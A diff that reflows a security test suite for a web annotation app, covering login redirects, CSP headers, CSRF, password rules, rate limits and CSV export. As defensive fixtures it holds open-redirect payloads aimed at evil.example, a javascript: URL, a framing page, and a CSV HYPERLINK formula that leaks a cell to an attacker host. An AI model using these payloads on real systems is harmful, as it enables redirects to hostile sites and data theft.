@@ -18,7 +18,11 @@ import { runCli } from "../helpers/cli.ts";
 import { DEMO, loginCookie, loginInBrowser } from "../../harness/login.ts";
 import { tempDir } from "../../harness/temp-db.ts";
 
-const LIMITS = { MAX_BODY_BYTES: String(1024 * 1024), LOGIN_MAX_FAILURES_PER_ACCOUNT: "4", LOGIN_MAX_FAILURES_PER_ADDRESS: "40" };
+const LIMITS = {
+  MAX_BODY_BYTES: String(1024 * 1024),
+  LOGIN_MAX_FAILURES_PER_ACCOUNT: "4",
+  LOGIN_MAX_FAILURES_PER_ADDRESS: "40",
+};
 const CAROL = { username: "carol", password: "violet kettle harbour" };
 
 let server: AppServer;
@@ -33,8 +37,13 @@ function query<T>(sql: string, ...params: unknown[]): T[] {
   }
 }
 
-const accountId = (username: string) => query<{ id: number }>(`SELECT id FROM annotators WHERE username = ?`, username)[0].id;
-const sessionsOf = (username: string) => query<{ id_hash: string }>(`SELECT s.id_hash FROM sessions s JOIN annotators a ON a.id = s.annotator_id WHERE a.username = ?`, username).map((r) => r.id_hash);
+const accountId = (username: string) =>
+  query<{ id: number }>(`SELECT id FROM annotators WHERE username = ?`, username)[0].id;
+const sessionsOf = (username: string) =>
+  query<{ id_hash: string }>(
+    `SELECT s.id_hash FROM sessions s JOIN annotators a ON a.id = s.annotator_id WHERE a.username = ?`,
+    username,
+  ).map((r) => r.id_hash);
 
 /** The random session id inside a signed `socrates_session=…` cookie. */
 function sessionIdOf(cookie: string): string {
@@ -42,9 +51,13 @@ function sessionIdOf(cookie: string): string {
   return JSON.parse(Buffer.from(value.slice(0, value.lastIndexOf(".")), "base64").toString("utf8")) as string;
 }
 
-const post = (path: string, body: BodyInit, headers: Record<string, string> = {}) => fetch(server.url + path, { method: "POST", body, headers, redirect: "manual" });
+const post = (path: string, body: BodyInit, headers: Record<string, string> = {}) =>
+  fetch(server.url + path, { method: "POST", body, headers, redirect: "manual" });
 const adminPost = async (fields: Record<string, string>, headers: Record<string, string> = {}) =>
-  post("/admin/annotators", new URLSearchParams(fields), { cookie: await loginCookie(server.url, DEMO.admin), ...headers });
+  post("/admin/annotators", new URLSearchParams(fields), {
+    cookie: await loginCookie(server.url, DEMO.admin),
+    ...headers,
+  });
 
 /** Whether `cookie` still opens a page that needs a login (a revoked session is sent to /login). */
 async function sessionWorks(cookie: string): Promise<boolean> {
@@ -53,7 +66,9 @@ async function sessionWorks(cookie: string): Promise<boolean> {
 }
 
 /** A site on another port of 127.0.0.1 (same site, other origin), serving fixed pages. */
-async function startEvilSite(pages: () => Record<string, string>): Promise<{ origin: string; close: () => Promise<void> }> {
+async function startEvilSite(
+  pages: () => Record<string, string>,
+): Promise<{ origin: string; close: () => Promise<void> }> {
   const site: Server = createServer((req, res) => {
     const page = pages()[new URL(req.url ?? "/", "http://evil").pathname];
     res.writeHead(page ? 200 : 404, { "Content-Type": "text/html; charset=utf-8" }).end(page ?? "not found");
@@ -68,7 +83,9 @@ async function startEvilSite(pages: () => Record<string, string>): Promise<{ ori
  * any of it, or (chunked, no length) `chunkedBytes` of data in 64 KB chunks with no end. Resolves
  * with the server's answer and the bytes sent.
  */
-function rawLoginPost(mode: { declared: number } | { chunkedBytes: number }): Promise<{ status: number; body: string; sent: number; headers: IncomingMessage["headers"] }> {
+function rawLoginPost(
+  mode: { declared: number } | { chunkedBytes: number },
+): Promise<{ status: number; body: string; sent: number; headers: IncomingMessage["headers"] }> {
   return new Promise((resolve, reject) => {
     const headers: Record<string, string> = { "Content-Type": "application/x-www-form-urlencoded" };
     if ("declared" in mode) headers["Content-Length"] = String(mode.declared);
@@ -112,7 +129,17 @@ afterAll(async () => {
 let evilPages: Record<string, string> = {};
 
 describe("login redirect (next) stays on this site", () => {
-  const attacks = ["/%5Cevil.example", "/%5C/evil.example", "/%09/evil.example", "/%0A/evil.example", "/%0D%0A/evil.example", "//evil.example", "/.//evil.example", "https://evil.example/", "javascript:alert(1)"];
+  const attacks = [
+    "/%5Cevil.example",
+    "/%5C/evil.example",
+    "/%09/evil.example",
+    "/%0A/evil.example",
+    "/%0D%0A/evil.example",
+    "//evil.example",
+    "/.//evil.example",
+    "https://evil.example/",
+    "javascript:alert(1)",
+  ];
 
   it.each(attacks)("GET /login?next=%s while logged in goes home, not to evil.example", async (next) => {
     const cookie = await loginCookie(server.url, DEMO.ada);
@@ -122,7 +149,13 @@ describe("login redirect (next) stays on this site", () => {
   });
 
   it("POST /login with a hostile next lands home; a path of this site is kept with its query", async () => {
-    for (const next of ["/\\evil.example", "/\\/evil.example", "/\t/evil.example", "//evil.example", "https://evil.example"]) {
+    for (const next of [
+      "/\\evil.example",
+      "/\\/evil.example",
+      "/\t/evil.example",
+      "//evil.example",
+      "https://evil.example",
+    ]) {
       const res = await post("/login", new URLSearchParams({ ...DEMO.ada, next }));
       expect(new URL(res.headers.get("location")!, server.url).href).toBe(`${server.url}/annotate`);
     }
@@ -152,7 +185,11 @@ describe("request body limit", () => {
 describe("malformed bodies are 400, not 500", () => {
   it.each([
     ["JSON", "application/json", '{"username":"admin"'],
-    ["broken multipart", "multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"username\"\r\n\r\nadmin"],
+    [
+      "broken multipart",
+      "multipart/form-data; boundary=xyz",
+      '--xyz\r\nContent-Disposition: form-data; name="username"\r\n\r\nadmin',
+    ],
     ["plain text", "text/plain", "username=admin&password=x"],
   ])("%s to /login", async (_what, type, body) => {
     const res = await post("/login", body, { "Content-Type": type });
@@ -161,7 +198,10 @@ describe("malformed bodies are 400, not 500", () => {
   });
 
   it("JSON to an admin action", async () => {
-    const res = await post("/admin/annotators", "{}", { "Content-Type": "application/json", cookie: await loginCookie(server.url, DEMO.admin) });
+    const res = await post("/admin/annotators", "{}", {
+      "Content-Type": "application/json",
+      cookie: await loginCookie(server.url, DEMO.admin),
+    });
     expect(res.status).toBe(400);
   });
 });
@@ -169,26 +209,44 @@ describe("malformed bodies are 400, not 500", () => {
 describe("security headers", () => {
   const nonceOf = (csp: string) => /'nonce-([^']+)'/.exec(csp)?.[1];
 
-  it.each(["/", "/login", "/no-such-page", "/admin/annotators", "/scenarios"])("%s carries CSP with a fresh nonce on every script, no framing, nosniff, Referrer-Policy", async (path) => {
-    const [a, b] = [await fetch(server.url + path, { redirect: "manual" }), await fetch(server.url + path, { redirect: "manual" })];
-    const csp = a.headers.get("content-security-policy")!;
-    for (const directive of ["default-src 'self'", "object-src 'none'", "base-uri 'none'", "form-action 'self'", "frame-ancestors 'none'"]) expect(csp).toContain(directive);
-    expect(nonceOf(csp)).toMatch(/^[A-Za-z0-9+/=]{20,}$/);
-    expect(nonceOf(b.headers.get("content-security-policy")!)).not.toBe(nonceOf(csp));
-    expect(a.headers.get("x-frame-options")).toBe("DENY");
-    expect(a.headers.get("x-content-type-options")).toBe("nosniff");
-    expect(a.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
-    const html = await a.text();
-    expect(html.match(/<script(?![^>]*\bnonce=)[^>]*>/g) ?? []).toEqual([]);
-    for (const [, nonce] of html.matchAll(/<script[^>]*\bnonce="([^"]+)"/g)) expect(nonce).toBe(nonceOf(csp));
-  });
+  it.each(["/", "/login", "/no-such-page", "/admin/annotators", "/scenarios"])(
+    "%s carries CSP with a fresh nonce on every script, no framing, nosniff, Referrer-Policy",
+    async (path) => {
+      const [a, b] = [
+        await fetch(server.url + path, { redirect: "manual" }),
+        await fetch(server.url + path, { redirect: "manual" }),
+      ];
+      const csp = a.headers.get("content-security-policy")!;
+      for (const directive of [
+        "default-src 'self'",
+        "object-src 'none'",
+        "base-uri 'none'",
+        "form-action 'self'",
+        "frame-ancestors 'none'",
+      ])
+        expect(csp).toContain(directive);
+      expect(nonceOf(csp)).toMatch(/^[A-Za-z0-9+/=]{20,}$/);
+      expect(nonceOf(b.headers.get("content-security-policy")!)).not.toBe(nonceOf(csp));
+      expect(a.headers.get("x-frame-options")).toBe("DENY");
+      expect(a.headers.get("x-content-type-options")).toBe("nosniff");
+      expect(a.headers.get("referrer-policy")).toBe("strict-origin-when-cross-origin");
+      const html = await a.text();
+      expect(html.match(/<script(?![^>]*\bnonce=)[^>]*>/g) ?? []).toEqual([]);
+      for (const [, nonce] of html.matchAll(/<script[^>]*\bnonce="([^"]+)"/g)) expect(nonce).toBe(nonceOf(csp));
+    },
+  );
 
   it("the MTurk task page, also as an error page, may be framed by MTurk's origins only, and posts its hand-off only to them", async () => {
-    for (const path of ["/mturk/task?study=1&item=1&assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE", "/mturk/task?study=oops"]) {
+    for (const path of [
+      "/mturk/task?study=1&item=1&assignmentId=ASSIGNMENT_ID_NOT_AVAILABLE",
+      "/mturk/task?study=oops",
+    ]) {
       const res = await fetch(server.url + path);
       const csp = res.headers.get("content-security-policy")!;
       expect(csp).toContain("frame-ancestors https://*.mturk.com http://127.0.0.1:9");
-      expect(csp).toContain("form-action 'self' https://www.mturk.com https://workersandbox.mturk.com http://127.0.0.1:9");
+      expect(csp).toContain(
+        "form-action 'self' https://www.mturk.com https://workersandbox.mturk.com http://127.0.0.1:9",
+      );
       expect(res.headers.get("x-frame-options")).toBeNull();
     }
     expect((await fetch(server.url + "/mturk/task?study=oops")).status).toBe(400);
@@ -203,14 +261,19 @@ describe("CSRF: state-changing requests from other origins", () => {
     expect(logout.status).toBe(403);
     expect(await logout.text()).toMatch(/Cross-origin request refused/);
     expect(sessionsOf("ada")).toHaveLength(before);
-    const deactivate = await adminPost({ intent: "deactivate", id: String(accountId("ben")) }, { "Sec-Fetch-Site": "cross-site" });
+    const deactivate = await adminPost(
+      { intent: "deactivate", id: String(accountId("ben")) },
+      { "Sec-Fetch-Site": "cross-site" },
+    );
     expect(deactivate.status).toBe(403);
     expect(query<{ active: number }>(`SELECT active FROM annotators WHERE username = 'ben'`)[0].active).toBe(1);
   });
 
   it("lets same-origin browsers and non-browser clients through", async () => {
     const cookie = await loginCookie(server.url, DEMO.ada);
-    expect((await post("/logout", "", { cookie, Origin: server.url, "Sec-Fetch-Site": "same-origin" })).status).toBe(302);
+    expect((await post("/logout", "", { cookie, Origin: server.url, "Sec-Fetch-Site": "same-origin" })).status).toBe(
+      302,
+    );
     expect(await sessionWorks(cookie)).toBe(false);
   });
 });
@@ -231,14 +294,32 @@ describe("admin actions on unknown ids answer 404", () => {
 describe("logins", () => {
   it("refuses weak passwords when an account is created or reset, naming the field", async () => {
     for (const password of ["aaaaaaaaaa", "Password123", "abcabcabcabc", "1234567890", "carol12345"]) {
-      const res = await adminPost({ intent: "create", username: "carol", displayName: "Carol", role: "expert", password });
+      const res = await adminPost({
+        intent: "create",
+        username: "carol",
+        displayName: "Carol",
+        role: "expert",
+        password,
+      });
       expect(res.status).toBe(400);
       expect(await res.text()).toMatch(/repeated|run of letters|most common|mostly the username/);
     }
     expect(query(`SELECT id FROM annotators WHERE username = 'carol'`)).toEqual([]);
-    expect((await adminPost({ intent: "create", username: "carol", displayName: "Carol", role: "expert", password: CAROL.password })).status).toBe(200);
+    expect(
+      (
+        await adminPost({
+          intent: "create",
+          username: "carol",
+          displayName: "Carol",
+          role: "expert",
+          password: CAROL.password,
+        })
+      ).status,
+    ).toBe(200);
     const hash = query<{ h: string }>(`SELECT password_hash AS h FROM annotators WHERE username = 'carol'`)[0].h;
-    expect((await adminPost({ intent: "password", id: String(accountId("carol")), password: "aaaaaaaaaa" })).status).toBe(400);
+    expect(
+      (await adminPost({ intent: "password", id: String(accountId("carol")), password: "aaaaaaaaaa" })).status,
+    ).toBe(400);
     expect(query<{ h: string }>(`SELECT password_hash AS h FROM annotators WHERE username = 'carol'`)[0].h).toBe(hash);
   });
 
@@ -257,7 +338,9 @@ describe("logins", () => {
     const [first, second] = [await loginCookie(server.url, CAROL), await loginCookie(server.url, CAROL)];
     expect(sessionsOf("carol")).toHaveLength(2);
     const newPassword = "amber lantern meadow";
-    expect((await adminPost({ intent: "password", id: String(accountId("carol")), password: newPassword })).status).toBe(200);
+    expect(
+      (await adminPost({ intent: "password", id: String(accountId("carol")), password: newPassword })).status,
+    ).toBe(200);
     expect(sessionsOf("carol")).toEqual([]);
     expect(await sessionWorks(first)).toBe(false);
     expect(await sessionWorks(second)).toBe(false);
@@ -269,7 +352,8 @@ describe("logins", () => {
   });
 
   it("limits failed logins per account: after 4 wrong guesses even the right password is refused 429 with Retry-After, and no session is made", async () => {
-    for (let i = 0; i < 4; i++) expect((await post("/login", new URLSearchParams({ username: "ben", password: `guess ${i}` }))).status).toBe(401);
+    for (let i = 0; i < 4; i++)
+      expect((await post("/login", new URLSearchParams({ username: "ben", password: `guess ${i}` }))).status).toBe(401);
     const right = await post("/login", new URLSearchParams(DEMO.ben));
     expect(right.status).toBe(429);
     expect(Number(right.headers.get("retry-after"))).toBeGreaterThan(0);
@@ -297,8 +381,20 @@ describe("CSV formula injection", () => {
     }
     const admin = await loginCookie(server.url, DEMO.admin);
     const form = new FormData();
-    for (const [k, v] of Object.entries({ type: "ab-reactiveness", name: "CSV study", pool: "expert", guidelines: "Compare the two conversations." })) form.set(k, v);
-    form.set("bundle", new Blob([JSON.stringify({ format: "socrates-bundle", version: 1, ab_pairs: [pair] })], { type: "application/json" }), "pairs.json");
+    for (const [k, v] of Object.entries({
+      type: "ab-reactiveness",
+      name: "CSV study",
+      pool: "expert",
+      guidelines: "Compare the two conversations.",
+    }))
+      form.set(k, v);
+    form.set(
+      "bundle",
+      new Blob([JSON.stringify({ format: "socrates-bundle", version: 1, ab_pairs: [pair] })], {
+        type: "application/json",
+      }),
+      "pairs.json",
+    );
     const created = await post("/admin/studies", form, { cookie: admin });
     expect(created.status).toBe(302);
     const studyId = Number(created.headers.get("location")!.split("/").pop());
@@ -306,13 +402,24 @@ describe("CSV formula injection", () => {
 
     const ada = await loginCookie(server.url, DEMO.ada);
     // The next item is leased by a POST (issue 29: the GET writes nothing).
-    expect((await post(`/annotate/${studyId}/next`, new URLSearchParams(), { cookie: ada })).headers.get("location")).toBe(`/annotate/${studyId}/items/${itemId}`);
+    expect(
+      (await post(`/annotate/${studyId}/next`, new URLSearchParams(), { cookie: ada })).headers.get("location"),
+    ).toBe(`/annotate/${studyId}/items/${itemId}`);
     // The item's page first: a submit for an item never shown to its annotator is refused (issue 28).
-    expect((await fetch(`${server.url}/annotate/${studyId}/items/${itemId}`, { headers: { cookie: ada } })).status).toBe(200);
-    const label = new URLSearchParams({ intent: "submit", payload: JSON.stringify({ kind: "ab-reactiveness", choice: "A" }), clientToken: "csv-test-1", then: "stay" });
+    expect(
+      (await fetch(`${server.url}/annotate/${studyId}/items/${itemId}`, { headers: { cookie: ada } })).status,
+    ).toBe(200);
+    const label = new URLSearchParams({
+      intent: "submit",
+      payload: JSON.stringify({ kind: "ab-reactiveness", choice: "A" }),
+      clientToken: "csv-test-1",
+      then: "stay",
+    });
     expect((await post(`/annotate/${studyId}/items/${itemId}`, label, { cookie: ada })).status).toBe(200);
 
-    const csv = await (await fetch(`${server.url}/admin/studies/${studyId}/labels.csv`, { headers: { cookie: admin } })).text();
+    const csv = await (
+      await fetch(`${server.url}/admin/studies/${studyId}/labels.csv`, { headers: { cookie: admin } })
+    ).text();
     const row = csv.trim().split("\r\n")[1];
     expect(row).toContain(`"'=HYPERLINK(""https://evil.example/?leak=""&A1,""Click for details"")"`);
     expect(row).not.toMatch(/,"?=HYPERLINK/);
@@ -331,7 +438,14 @@ describe.runIf(runBrowserTests)("in Chromium", { timeout: 120_000 }, () => {
   it("the app's own pages pass the CSP", async () => {
     const page = await browser.newPage();
     await loginInBrowser(page, server.url, DEMO.admin);
-    for (const path of ["/admin/studies", "/admin/studies/1", "/admin/annotators", "/scenarios", "/runs", "/no-such-page"]) {
+    for (const path of [
+      "/admin/studies",
+      "/admin/studies/1",
+      "/admin/annotators",
+      "/scenarios",
+      "/runs",
+      "/no-such-page",
+    ]) {
       await page.goto(server.url + path);
       await page.waitForLoadState("networkidle");
     }
@@ -342,7 +456,9 @@ describe.runIf(runBrowserTests)("in Chromium", { timeout: 120_000 }, () => {
   });
 
   it("another site cannot frame an admin page", async () => {
-    evilPages = { "/frame": `<!doctype html><title>evil</title><iframe id="f" src="${server.url}/admin/annotators"></iframe>` };
+    evilPages = {
+      "/frame": `<!doctype html><title>evil</title><iframe id="f" src="${server.url}/admin/annotators"></iframe>`,
+    };
     const page = await browser.newPage();
     const refused = page.waitForEvent("console", (m) => /frame-ancestors/.test(m.text()));
     await page.goto(evil.origin + "/frame");
@@ -375,7 +491,8 @@ describe("per-address login limit", () => {
   // Last: once the address is limited, no login from this test process works on this server.
   it("refuses a network that fails across many usernames with 429", async () => {
     let status = 0;
-    for (let i = 0; i < 45 && status !== 429; i++) status = (await post("/login", new URLSearchParams({ username: `nobody${i}`, password: "guess guess" }))).status;
+    for (let i = 0; i < 45 && status !== 429; i++)
+      status = (await post("/login", new URLSearchParams({ username: `nobody${i}`, password: "guess guess" }))).status;
     expect(status).toBe(429);
     expect((await post("/login", new URLSearchParams(DEMO.admin))).status).toBe(429);
   });
